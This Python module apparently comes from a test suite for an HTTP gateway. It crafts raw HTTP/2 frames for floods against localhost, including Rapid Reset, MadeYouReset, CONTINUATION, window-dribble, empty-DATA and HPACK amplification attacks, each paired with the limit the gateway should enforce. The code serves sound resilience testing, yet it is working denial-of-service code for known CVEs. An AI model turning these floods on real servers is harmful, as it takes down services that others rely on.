"""Floods over HTTP/2, of frames that no client library would send (RFC 9113)."""

import asyncio
import itertools
import struct

from attack import Flood
from gateway import LARGE, SESSION
from http_1 import many, slow

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CANCEL = struct.pack(">I", 8)
TABLE_SIZE, INITIAL_WINDOW = 1, 4


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def setting(name, value):
    return struct.pack(">HI", name, value)


def literal(name, value):
    """A field that is spelt out and not remembered (RFC 7541 section 6.2.2)."""
    return b"\0" + text(name) + text(value)


def text(value):
    value = value.encode() if isinstance(value, str) else value
    return number(len(value), 7) + value


def number(value, bits, flags=0):
    """RFC 7541 section 5.1."""
    most = (1 << bits) - 1
    if value < most:
        return bytes((flags | value,))
    said, value = [flags | most], value - most
    while value >= 128:
        said.append(value % 128 + 128)
        value //= 128
    return bytes((*said, value))


def fields(path, *more, method="GET"):
    named = [(":method", method), (":scheme", "http"), (":authority", "localhost"), (":path", path), *more]
    return b"".join(literal(name, value) for name, value in named)


GOOD = ("authorization", "Bearer secret-0")
HEALTH = fields("/healthz")
STREAM = fields(f"/sessions/{SESSION}/history", GOOD, ("accept", "text/event-stream"))
HELLO = PREFACE + frame(SETTINGS, 0, 0)
# How many streams a frame is made for at a time.
SOME = 100


def streams():
    return itertools.count(1, 2)


def large_page(n):
    """A page of 3 or 4 MB, and as one of 200 it is made for nobody else."""
    return fields(f"/sessions/{LARGE}/history?limit={1_000 - n % 200}", GOOD)


def frames(hello, batches, reads=True):
    """Says `hello`, and then what `batches()` makes, as fast as it is taken, on a new connection once it is cut off."""

    def begin(target):
        async def each(reader, writer):
            async def read():
                rest = b""
                while piece := await reader.read(2**16):
                    rest += piece
                    while len(rest) >= 9 and len(rest) >= 9 + int.from_bytes(rest[:3], "big"):
                        size = 9 + int.from_bytes(rest[:3], "big")
                        if rest[3] == GOAWAY:
                            target.seen[f"GOAWAY {int.from_bytes(rest[13:17], 'big')}"] += 1
                        if rest[3] == PING and not rest[4] & ACK:
                            writer.write(frame(PING, ACK, 0, rest[9:size]))
                        rest = rest[size:]

            reading = asyncio.ensure_future(read() if reads else asyncio.sleep(3600))
            writer.write(hello)
            try:
                for said in batches():
                    if reading.done():
                        return
                    writer.write(said)
                    target.seen["batches"] += 1
                    await writer.drain()
                    await asyncio.sleep(0)
                await reading
            finally:
                reading.cancel()

        return many(target, each)

    return begin


def rapid_reset():
    """CVE-2023-44487."""
    numbers = streams()
    while True:
        yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, HEALTH) + frame(RST_STREAM, 0, n, CANCEL)
                       for n in itertools.islice(numbers, SOME))


def made_to_reset():
    """CVE-2025-8671: each request has an error that the server resets it for."""
    numbers = streams()
    while True:
        yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, HEALTH) + frame(WINDOW_UPDATE, 0, n, struct.pack(">I", 0))
                       for n in itertools.islice(numbers, SOME))


def continuation():
    """CVE-2024-27983 and its kin: a head that never ends."""
    yield frame(HEADERS, END_STREAM, 1, HEALTH)
    more = b"".join(literal(f"a{n}", "b" * 30) for n in range(400))
    while True:
        yield frame(CONTINUATION, 0, 1, more)


def empty_continuation():
    yield frame(HEADERS, END_STREAM, 1, HEALTH)
    while True:
        yield frame(CONTINUATION, 0, 1) * 1_000


def again(said):
    """The same again and again."""
    return lambda: itertools.repeat(said)


def windows_of_open_streams():
    """256 streams, and then settings that each change the window of all of them."""
    yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, large_page(n)) for n in itertools.islice(streams(), 256))
    while True:
        yield b"".join(frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW, size)) for size in (1, 0)) * SOME


def dribble():
    """CVE-2019-9511: a page that is asked for a byte at a time."""
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, large_page(1))
    while True:
        yield frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * 1_000


def no_window():
    yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, large_page(n)) for n in itertools.islice(streams(), 100))


def page_of_a_stranger():
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, fields("/openapi.json"))


def overflow():
    """More than 2^31 - 1 in the window (section 6.9.1)."""
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, STREAM)
    yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1)) * 2


def empty_data():
    """CVE-2019-9518."""
    yield frame(HEADERS, END_HEADERS, 1, fields("/healthz", method="POST"))
    while True:
        yield frame(DATA, 0, 1) * 1_000


def compressed():
    """Heads of some bytes that are 60 KB each: a value of 3,900 bytes is remembered, and named 15 times. The 16th is too much."""
    value = b"\x40" + text("a") + text("b" * 3_900)
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, value + HEALTH)
    numbers = itertools.count(3, 2)
    # The first of the table of what was said (section 6.1 of RFC 7541), which follows the 61 that all know.
    named = number(62, 7, 0x80)
    while True:
        yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, HEALTH + named * 10_000) for n in itertools.islice(numbers, 20))


def requests():
    numbers = streams()
    while True:
        yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, HEALTH) for n in itertools.islice(numbers, 20))


FLOODS = [
    Flood("half of a preface", "30 s", slow(PREFACE[:20], b""), 500, 8_000, processes=2),
    Flood("a preface, and then nothing", "2 min without a request", slow(PREFACE, b""), 0, 8_000, processes=2),
    Flood("rapid reset", "20 taken back and not answered", frames(HELLO, rapid_reset), 8, 50),
    Flood("requests that the gateway has to reset", "1,024 of a connection", frames(HELLO, made_to_reset), 0, 50),
    Flood("CONTINUATION without end", "64 KiB of a head", frames(HELLO, continuation), 8, 50),
    Flood("empty CONTINUATION without end", "as many frames as a head of 64 KiB may have", frames(HELLO, empty_continuation), 0, 50),
    Flood("SETTINGS", "one is answered before the next is read", frames(HELLO, again(frame(SETTINGS, 0, 0, setting(TABLE_SIZE, 0)) * 500)), 0, 50),
    Flood("SETTINGS, of which no answer is read", "`--write-timeout`", frames(HELLO, again(frame(SETTINGS, 0, 0) * 500), reads=False), 8, 50),
    Flood("PING", "one is answered before the next is read", frames(HELLO, again(frame(PING, 0, 0, b"12345678") * 500)), 0, 50),
    Flood("PING, of which no answer is read", "`--write-timeout`", frames(HELLO, again(frame(PING, 0, 0, b"12345678") * 500), reads=False), 8, 50),
    Flood("PRIORITY", "nothing is kept of it", frames(HELLO, again(frame(PRIORITY, 0, 1, b"\0\0\0\3\x10") * 500)), 8, 50),
    Flood("SETTINGS that change the windows of 256 streams", "one is answered before the next is read", frames(HELLO, windows_of_open_streams), 0, 20),
    Flood("100 pages of 4 MB without a window", "`--write-timeout`; 64 MiB of a connection", frames(PREFACE + frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW, 0)), no_window), 8, 50),
    Flood("more strangers without a window than may be", "one that takes nothing for a second gives its place to the next",
          frames(PREFACE + frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW, 0)), page_of_a_stranger), 150, 150,
          options=("--max-connections", "100", "--write-timeout", "30s"), may_wait=4_000),
    Flood("a page of 4 MB, a byte at a time", "none of its own: the client pays as much", frames(PREFACE + frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW, 0)), dribble), 8, 50),
    Flood("a window of more than 2^31 - 1", "closed", frames(HELLO, overflow), 0, 50),
    Flood("empty DATA", "none of its own", frames(HELLO, empty_data), 0, 50),
    Flood("small heads that are large", "64 KiB of a head, then 431", frames(HELLO, compressed), 8, 50),
    Flood("requests without end", "256 at a time", frames(HELLO, requests), 0, 50),
]
